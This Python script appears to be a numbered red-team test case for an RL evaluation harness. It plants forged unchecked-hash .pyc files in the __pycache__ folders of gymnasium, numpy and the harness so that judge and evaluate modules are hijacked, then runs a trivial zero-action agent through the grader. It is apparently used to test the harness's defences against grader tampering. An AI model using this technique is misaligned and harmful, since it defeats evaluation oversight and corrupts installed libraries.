"""row 4 | N | poison __pycache__ with an unchecked-hash .pyc"""

import contextlib
import importlib.util
import marshal
import os
import sys

import gymnasium as gym
import numpy as np

from evaluate import evaluate_policy


class Agent:
    def get_action(self, obs):
        return np.zeros((len(obs), 1), np.float32)


source = "def measure(*a, **k):\n    raise SystemExit('pwned')\n"
code = compile(source, "x.py", "exec")
pyc = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + b"\0" * 8 + marshal.dumps(code)
tag = sys.implementation.cache_tag
places = [
    os.path.dirname(gym.__file__),
    os.path.dirname(np.__file__),
    "@CLONE@/autorl",
    "@CLONE@/autorl/judging",
    "@CLONE@",
    ".",
]
for place in places:
    for name in ("judge", "rollout", "evaluate", "__init__", "core"):
        with contextlib.suppress(OSError):
            os.makedirs(f"{place}/__pycache__", exist_ok=True)
            open(f"{place}/__pycache__/{name}.{tag}.pyc", "wb").write(pyc)
evaluate_policy(Agent())
